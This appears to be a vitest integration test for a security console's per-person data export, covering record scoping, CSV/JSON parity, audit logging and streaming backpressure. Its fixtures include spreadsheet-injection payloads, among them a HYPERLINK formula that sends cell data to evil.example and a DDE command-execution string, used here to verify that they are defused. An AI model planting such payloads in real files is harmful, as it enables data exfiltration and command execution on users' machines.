// GET /api/v1/people/:user/export on a real console app over a real SQLite store: exactly the
// person's records (hostile names, names that are prefixes of each other), the CSV read back
// equal to the JSON, spreadsheet formulas defused, one audit row per export written before
// the first byte, and a 50,000-event export streamed page by page (the store is read only as
// fast as the client reads).
import { request } from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { EXPORT_IDLE_MS, PAGE } from '../../../src/console/server/routes/people.js';
import type {
  ConsoleStore,
  PersonExportReader,
  StoredEvent,
} from '../../../src/console/store/types.js';
import {
  CSV_COLUMNS,
  CsvReader,
  decodeCsvCell,
  type ExportedAlert,
  type ExportedCase,
  type ExportedEvent,
  type ExportedRequest,
  type PersonExportCounts,
} from '../../../src/core/console/person-export.js';
import type { Json } from '../../../src/core/events/types.js';
import { AgentLog, HOSTILE } from '../../console/store.suite.js';
import { call, type Login, staff } from '../../helpers/console-app.js';
import { makeRealConsole, type RealHarness } from '../../helpers/real-console-app.js';

const open: RealHarness[] = [];
afterEach(async () => {
  for (const h of open.splice(0)) await h.close();
});

/** What a spreadsheet would run: the person's name and the agents' strings try all of it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  '＝1+1',
];
const PERSON = `张三 ${HOSTILE[0]} ${FORMULAS[0]}, "quoted"\nnext line`;

interface Doc {
  format: string;
  user: string;
  exportedAt: number;
  exportedBy: string;
  auditSeq: number;
  notes: { en: string; 'zh-CN': string }[];
  events: ExportedEvent[];
  requests: ExportedRequest[];
  alerts: ExportedAlert[];
  cases: ExportedCase[];
  counts: PersonExportCounts;
}

const url = (user: string, format?: string) =>
  `/api/v1/people/${encodeURIComponent(user)}/export${format ? `?format=${format}` : ''}`;

async function agent(h: RealHarness, id: string, host: string) {
  await h.real.createAgent({
    id,
    publicKey: 'k',
    exceptionSecret: 's',
    host,
    os: 'linux',
    group: 'finance',
    enrolledAt: 1,
  });
}

/** Two workstations where PERSON, people with prefix names and nobody worked. */
async function fleet(h: RealHarness) {
  await agent(h, 'agent-1', FORMULAS[3]!);
  await agent(h, 'agent-2', 'ws-02');
  const l1 = new AgentLog(FORMULAS[3]!);
  const l2 = new AgentLog('ws-02', 1_700_000_000_300);
  const others = ['张', `${PERSON} `, PERSON.toUpperCase(), '张三'];
  for (let i = 0; i < 40; i++) {
    const log = i % 2 ? l2 : l1;
    const user = i % 3 === 0 ? PERSON : others[i % others.length]!;
    log.add({
      user,
      ...(i % 5 === 0 ? { level: 'AAA' } : {}),
      data: { path: FORMULAS[i % FORMULAS.length]!, size: i, note: HOSTILE[i % HOSTILE.length]! },
    });
  }
  l1.add({ user: PERSON, type: 'alert.raised', severity: 'critical', data: { rule: '=1' } });
  l1.add({ type: 'file.modified' }); // nobody logged in
  for (const [i, user] of [PERSON, '张三', PERSON].entries())
    l2.add({
      user,
      type: 'usb.exception-requested',
      data: {
        requestId: `req-${i}`,
        device: '0781:5581:4C530001',
        deviceLabel: FORMULAS[i]!,
        reason: FORMULAS[i + 1]!,
      },
    });
  await h.real.ingest('agent-1', l1.events, 1_800_000_000_000);
  // A gap on agent-2 (no user: not PERSON's) and a chain break on one of PERSON's events.
  // (l2's second event is PERSON's: i = 3.)
  const broken = { ...l2.events[1]!, data: { path: '/edited' } };
  await h.real.ingest('agent-2', [l2.events[0]!, broken, ...l2.events.slice(3)], 1_800_000_000_001);
  await h.real.decideRequest('req-0', {
    approved: true,
    by: 'ada',
    at: 1_800_000_000_100,
    note: FORMULAS[2]!,
    token: 'BMX1.secret.token',
  });
  return cases(h);
}

/** Cases: A gathers PERSON's own alert and holds an event of PERSON and one of 张三; B
 *  gathers the gap (nobody's) and holds another event of PERSON (it names PERSON through it). */
async function cases(h: RealHarness) {
  const alerts = await h.real.listAlerts({ limit: 10 });
  const mineAlert = alerts.find((a) => a.user === PERSON && a.type === 'alert.raised')!;
  const gap = alerts.find((a) => a.type === 'sync.gap')!;
  const events = (await h.real.queryEvents({ order: 'asc', limit: 1000 })).events;
  const [mine1, mine2] = events.filter((e) => e.user === PERSON);
  const theirs = events.find((e) => e.user === '张三')!;
  const at = 1_800_000_000_200;
  const audit = (c: { id: number }) => ({
    ts: at,
    actor: 'ana',
    action: 'case.changed',
    ip: '127.0.0.1',
    target: `case:${c.id}`,
    details: {},
  });
  const ref = (e: StoredEvent) => ({ agentId: e.agentId, seq: e.seq });
  const by = { by: 'ana', at };
  const a = await h.real.openCase(
    { title: FORMULAS[0]!, alertIds: [mineAlert.id], note: HOSTILE[1]!, ...by },
    audit,
  );
  await h.real.changeCase(
    a.id,
    { kind: 'events', events: [ref(mine1!), ref(theirs)], ...by },
    audit,
  );
  await h.real.changeCase(a.id, { kind: 'note', text: FORMULAS[1]!, ...by }, audit);
  const b = await h.real.openCase({ title: 'gap', alertIds: [gap.id], ...by }, audit);
  await h.real.changeCase(b.id, { kind: 'events', events: [ref(mine2!)], ...by }, audit);
  return {
    a: a.id,
    b: b.id,
    mineAlert: mineAlert.id,
    mine1: ref(mine1!),
    mine2: ref(mine2!),
    theirs: ref(theirs),
  };
}

/** The CSV read back into the JSON document's shape. */
function fromCsv(text: string) {
  const reader = new CsvReader();
  const records = [...reader.push(text), ...reader.end()];
  const [header, ...rows] = records;
  expect(header).toEqual([...CSV_COLUMNS]);
  const raw: (string | null)[] = [];
  const doc = {
    events: [] as ExportedEvent[],
    requests: [] as ExportedRequest[],
    alerts: [] as ExportedAlert[],
    cases: [] as ExportedCase[],
    head: null as Record<string, unknown> | null,
    counts: null as PersonExportCounts | null,
  };
  const num = (v: string | null) => (v === null ? null : Number(v));
  for (const r of rows) {
    expect(r).toHaveLength(CSV_COLUMNS.length);
    raw.push(...r);
    const c = Object.fromEntries(
      CSV_COLUMNS.map((k, i) => [k, decodeCsvCell(r[i] ?? null)]),
    ) as Record<(typeof CSV_COLUMNS)[number], string | null>;
    const opt = (k: string, v: string | number | null) => (v === null ? {} : { [k]: v });
    switch (c.record) {
      case 'export':
        doc.head = { user: c.user, exportedAt: num(c.ts), ...JSON.parse(c.data!) };
        break;
      case 'event':
        doc.events.push({
          id: c.id!,
          seq: num(c.seq)!,
          ts: num(c.ts)!,
          type: c.type!,
          severity: c.severity as ExportedEvent['severity'],
          ...opt('level', c.level),
          ...opt('user', c.user),
          host: c.host!,
          data: JSON.parse(c.data!) as { [k: string]: Json },
          prevHash: c.prev_hash!,
          hash: c.hash!,
          agentId: c.agent_id!,
          receivedAt: num(c.received_at)!,
        } as ExportedEvent);
        break;
      case 'request':
        doc.requests.push({
          id: c.id!,
          agentId: c.agent_id!,
          user: c.user,
          device: c.device!,
          deviceLabel: c.device_label,
          reason: c.reason!,
          requestedAt: num(c.ts)!,
          state: c.state as ExportedRequest['state'],
          decidedBy: c.decided_by,
          decidedAt: num(c.decided_at),
          note: c.note,
          deliveredAt: num(c.delivered_at),
          tokenIssued: c.token_issued === 'true',
        });
        break;
      case 'alert':
        doc.alerts.push({
          id: num(c.id)!,
          agentId: c.agent_id,
          ts: num(c.ts)!,
          type: c.type!,
          severity: c.severity as ExportedAlert['severity'],
          seq: num(c.seq),
          data: JSON.parse(c.data!) as { [k: string]: Json },
          state: c.state as ExportedAlert['state'],
          ...opt('user', c.user),
          ...opt('stateBy', c.state_by),
          ...opt('stateAt', num(c.state_at)),
          ...opt('stateNote', c.state_note),
        });
        break;
      case 'case':
        doc.cases.push({
          id: num(c.id)!,
          openedAt: num(c.ts)!,
          severity: c.severity as ExportedCase['severity'],
          stage: c.state as ExportedCase['stage'],
          ...JSON.parse(c.data!),
        });
        break;
      case 'end':
        doc.counts = JSON.parse(c.data!) as PersonExportCounts;
        break;
      default:
        throw new Error(`unknown record ${c.record}`);
    }
  }
  expect(rows.at(-1)?.[0]).toBe('end');
  return { doc, raw };
}

async function setup() {
  const h = await makeRealConsole({ limits: { perIp: 100_000 } });
  open.push(h);
  const s = await staff(h);
  const ids = await fleet(h);
  return { h, s, ids };
}

async function exportOf(h: RealHarness, as: Login, user: string, format?: string) {
  const r = await call(h, as, 'GET', url(user, format));
  expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
  return r;
}

describe('GET /api/v1/people/:user/export', () => {
  it('holds exactly the person’s events, requests and alerts; CSV reads back as the JSON', async () => {
    const { h, s, ids } = await setup();
    const all = (await h.real.queryEvents({ order: 'asc', limit: 1000 })).events;
    const mine = all.filter((e) => e.user === PERSON);
    expect(mine.length).toBeGreaterThan(10);

    const json = await exportOf(h, s.auditor, PERSON);
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(json.headers['cache-control']).toBe('no-store');
    const doc = JSON.parse(json.body) as Doc;
    expect(doc).toMatchObject({
      format: 'baomi-person-export/1',
      user: PERSON,
      exportedBy: 'aud',
    });
    expect(Object.keys(doc).at(-1)).toBe('counts');
    expect(doc.notes.map((n) => n.en).join(' ')).toMatch(/other people’s alerts and events/);
    // Cases: A through PERSON's alert, B through PERSON's event; others' records withheld.
    expect(doc.cases.map((c) => [c.id, c.alertIds, c.events, c.otherRecords])).toEqual([
      [ids.a, [ids.mineAlert], [ids.mine1], 1],
      [ids.b, [], [ids.mine2], 1],
    ]);
    expect(
      doc.cases[0]!.entries.map((e) => [e.kind, e.data.added ?? e.data.alerts ?? e.data.text]),
    ).toEqual([
      ['opened', [ids.mineAlert]],
      ['events', [`${ids.mine1.agentId}:${ids.mine1.seq}`]],
      ['note', FORMULAS[1]],
    ]);
    expect(JSON.stringify(doc.cases)).not.toContain(`"${ids.theirs.agentId}:${ids.theirs.seq}"`);
    // Only these fields leave: never the case's alerts themselves (other people's among them).
    for (const c of doc.cases)
      expect(Object.keys(c).sort()).toEqual([
        'alertIds',
        'assignee',
        'dueAt',
        'entries',
        'events',
        'id',
        'openedAt',
        'openedBy',
        'otherRecords',
        'outcome',
        'severity',
        'stage',
        'title',
        'updatedAt',
      ]);
    // Events: exactly the person's, oldest first, as stored (hashes hold).
    const key = (e: StoredEvent | ExportedEvent) => [e.ts, e.agentId, e.seq];
    expect(doc.events).toEqual(
      [...mine].sort((a, b) => a.ts - b.ts || (a.agentId < b.agentId ? -1 : 1) || a.seq - b.seq),
    );
    expect(doc.events.map(key)).toEqual(
      doc.events.map(key).sort((a, b) => Number(a[0]) - Number(b[0])),
    );
    // Requests: the two PERSON made, the approval token withheld.
    expect(doc.requests.map((r) => [r.id, r.state, r.tokenIssued])).toEqual([
      ['req-0', 'approved', true],
      ['req-2', 'pending', false],
    ]);
    expect(json.body).not.toContain('BMX1.secret.token');
    // Alerts: the agent's own rule and the chain break on PERSON's edited event; not the gap.
    expect(doc.alerts.map((a) => [a.type, a.user])).toEqual([
      ['alert.raised', PERSON],
      ['sync.chain-broken', PERSON],
    ]);
    expect(doc.counts).toEqual({
      events: mine.length,
      requests: 2,
      alerts: 2,
      cases: 2,
      rows: mine.length + 6,
    });
    // One record per line: the structure the staff CLI counts.
    const lines = json.body.trimEnd().split('\n');
    expect(lines.filter((l, i) => i > 0 && /^,?\{"/.test(l))).toHaveLength(doc.counts.rows);
    expect(lines.at(-1)).toBe(`"counts":${JSON.stringify(doc.counts)}}`);

    const csv = await exportOf(h, s.admin, PERSON, 'csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.body.startsWith('\ufeffrecord,id,agent_id,')).toBe(true);
    const back = fromCsv(csv.body);
    expect(back.doc.events).toEqual(doc.events);
    expect(back.doc.requests).toEqual(doc.requests);
    expect(back.doc.alerts).toEqual(doc.alerts);
    expect(back.doc.cases).toEqual(doc.cases);
    expect(back.doc.counts).toEqual(doc.counts);
    expect(back.doc.head).toMatchObject({
      user: PERSON,
      format: doc.format,
      exportedBy: 'ada',
      notes: doc.notes,
    });
    // No cell a spreadsheet would run as a formula: every such start is behind an apostrophe.
    const risky = back.raw.filter((c) => c !== null && /^[=+\-@\t\r\uff1d]/.test(c));
    expect(risky).toEqual([]);
    expect(back.raw.filter((c) => c?.startsWith("'=HYPERLINK")).length).toBeGreaterThan(0);
    expect(csv.body).not.toContain('BMX1.secret.token');
  });

  it('names that are prefixes, case or a space apart are other people; nobody is an empty export', async () => {
    const { h, s } = await setup();
    for (const other of ['张', '张三', `${PERSON} `, PERSON.toUpperCase()]) {
      const doc = JSON.parse((await exportOf(h, s.admin, other)).body) as Doc;
      const want = (await h.real.queryEvents({ user: other, limit: 1000 })).events;
      expect(doc.events.every((e) => e.user === other)).toBe(true);
      expect(doc.events).toHaveLength(want.length);
      expect(doc.requests.every((r) => r.user === other)).toBe(true);
    }
    // 张三's event is in case A: the case is in 张三's export, cut to that one event.
    const zhang = JSON.parse((await exportOf(h, s.admin, '张三')).body) as Doc;
    expect(zhang.cases.map((c) => [c.alertIds, c.events.length, c.otherRecords])).toEqual([
      [[], 1, 2],
    ]);
    const nobody = JSON.parse((await exportOf(h, s.admin, 'nobody@example')).body) as Doc;
    expect(nobody.counts).toEqual({ events: 0, requests: 0, alerts: 0, cases: 0, rows: 0 });
    expect(nobody.events).toEqual([]);
  });

  it('each export is one person.exported audit row, written before the first byte; analysts and strangers get none', async () => {
    const { h, s } = await setup();
    const trail = async () => h.real.listAudit({ limit: 1000 });
    const before = (await trail()).length;
    const doc = JSON.parse((await exportOf(h, s.auditor, PERSON)).body) as Doc;
    await exportOf(h, s.admin, PERSON, 'csv');
    const rows = (await trail()).slice(before);
    expect(rows.map((r) => [r.action, r.actor, r.target, r.details])).toEqual([
      ['person.exported', 'aud', PERSON, { format: 'json', counts: { ...doc.counts } }],
      ['person.exported', 'ada', PERSON, { format: 'csv', counts: { ...doc.counts } }],
    ]);
    expect(doc.auditSeq).toBe(rows[0]!.seq);
    expect(doc.exportedAt).toBe(rows[0]!.ts);

    const analyst = await call(h, s.analyst, 'GET', url(PERSON));
    expect(analyst.statusCode).toBe(403);
    expect((await call(h, null, 'GET', url(PERSON))).statusCode).toBe(401);
    expect((await call(h, s.admin, 'GET', url(PERSON, 'xml'))).statusCode).toBe(400);
    // A lone surrogate (its UTF-8 form, which no database keeps) is not a name.
    expect((await call(h, s.admin, 'GET', '/api/v1/people/a%ED%A0%80b/export')).statusCode).toBe(
      400,
    );
    expect((await call(h, s.admin, 'GET', url('x'.repeat(513)))).statusCode).toBe(400);
    // A long name (up to 512) is a name: exported (empty), and audited.
    expect((await call(h, s.admin, 'GET', url('长'.repeat(512)))).statusCode).toBe(200);
    expect((await trail()).length).toBe(before + 3);
  });

  it('streams 50,000 events page by page: the store is read only as fast as the client reads', async () => {
    let read = 0;
    /** The store as the console sees it, counting the events its export reader hands out. */
    const counting = (s: ConsoleStore): ConsoleStore =>
      new Proxy(s, {
        get(target, prop, receiver) {
          if (prop !== 'openPersonExport') return Reflect.get(target, prop, receiver);
          return async (user: string): Promise<PersonExportReader> => {
            const r = await target.openPersonExport(user);
            return {
              counts: () => r.counts(),
              events: async (after, n) => {
                const page = await r.events(after, n);
                read += page.length;
                return page;
              },
              requests: (after, n) => r.requests(after, n),
              alerts: (after, n) => r.alerts(after, n),
              cases: (after, n) => r.cases(after, n),
              close: () => r.close(),
            };
          };
        },
      });
    const h = await makeRealConsole({ wrap: counting, limits: { perIp: 100_000 } });
    open.push(h);
    const s = await staff(h);
    await agent(h, 'agent-1', 'ws-01');
    const N = 50_000;
    const log = new AgentLog();
    for (let i = 0; i < N; i++)
      log.add({ user: 'wang.wu', data: { path: `/srv/finance/${'报表'.repeat(20)}/${i}.xlsx` } });
    for (let i = 0; i < N; i += 5000)
      await h.real.ingest('agent-1', log.events.slice(i, i + 5000), 1_800_000_000_000);

    const address = await h.app.listen({ port: 0, host: '127.0.0.1' });
    const heapBefore = process.memoryUsage().heapUsed;
    let heapPeak = heapBefore;
    let bytes = 0;
    let lines = 0;
    let last = '';
    let readWhilePaused = -1;
    await new Promise<void>((resolve, reject) => {
      const req = request(`${address}${url('wang.wu', 'csv')}`, {
        headers: { cookie: s.auditor.cookie },
      });
      req.on('response', (res) => {
        expect(res.statusCode).toBe(200);
        let tail = '';
        let paused = false;
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          bytes += Buffer.byteLength(chunk);
          const text = tail + chunk;
          const parts = text.split('\r\n');
          tail = parts.pop()!;
          lines += parts.length;
          if (parts.length) last = parts.at(-1)!;
          heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed);
          if (!paused && bytes > 1_000_000) {
            // The client stops reading: the server must stop reading the store soon after.
            paused = true;
            res.pause();
            setTimeout(() => {
              readWhilePaused = read;
              setTimeout(() => {
                expect(read).toBe(readWhilePaused); // nothing more while paused
                res.resume();
              }, 300);
            }, 500);
          }
        });
        res.on('end', () => {
          if (tail) {
            lines++;
            last = tail;
          }
          resolve();
        });
        res.on('error', reject);
      });
      req.on('error', reject);
      req.end();
    });
    // Header, export row, N events, end row.
    expect(lines).toBe(N + 3);
    expect(last).toBe(
      `end,,,,,,,,,,,,"{""events"":${N},""requests"":0,""alerts"":0,""cases"":0,""rows"":${N}}",,,,,,,,,,,,,,`,
    );
    expect(read).toBe(N);
    // Paused after 1 MB of a file of more than 20 MB: what had been read from the store was a
    // few pages ahead (the socket's buffers), far from the whole set.
    expect(bytes).toBeGreaterThan(20_000_000);
    expect(readWhilePaused).toBeGreaterThan(0);
    expect(readWhilePaused).toBeLessThan(N / 2);
    console.log(
      JSON.stringify({
        exportBytes: bytes,
        eventsReadWhilePaused: readWhilePaused,
        page: PAGE,
        heapGrowthMB: Math.round((heapPeak - heapBefore) / 1e5) / 10,
        idleCutMs: EXPORT_IDLE_MS,
      }),
    );
  }, 120_000);

  it('a client that hangs up before the first byte (during the count) leaves no snapshot open', async () => {
    let opened = 0;
    let closed = 0;
    let release!: () => void;
    const counted = new Promise<void>((r) => {
      release = r;
    });
    const slow = (st: ConsoleStore): ConsoleStore =>
      new Proxy(st, {
        get(target, prop, receiver) {
          if (prop !== 'openPersonExport') return Reflect.get(target, prop, receiver);
          return async (user: string): Promise<PersonExportReader> => {
            const r = await target.openPersonExport(user);
            opened++;
            return {
              counts: async () => {
                await counted; // a slow count: the client gives up meanwhile
                return r.counts();
              },
              events: (after, n) => r.events(after, n),
              requests: (after, n) => r.requests(after, n),
              alerts: (after, n) => r.alerts(after, n),
              cases: (after, n) => r.cases(after, n),
              close: async () => {
                closed++;
                await r.close();
              },
            };
          };
        },
      });
    const h = await makeRealConsole({ wrap: slow });
    open.push(h);
    const s = await staff(h);
    const address = await h.app.listen({ port: 0, host: '127.0.0.1' });
    for (let i = 0; i < 3; i++) {
      await new Promise<void>((resolve) => {
        const req = request(`${address}${url('nobody')}`, {
          headers: { cookie: s.auditor.cookie },
        });
        req.on('error', () => resolve());
        req.end();
        setTimeout(() => {
          req.destroy();
          resolve();
        }, 100);
      });
    }
    for (let i = 0; i < 50 && opened < 3; i++) await new Promise((r) => setTimeout(r, 20));
    expect(opened).toBe(3);
    for (let i = 0; i < 100 && closed < 3; i++) await new Promise((r) => setTimeout(r, 20));
    expect(closed).toBeGreaterThanOrEqual(3);
    release();
  });
});
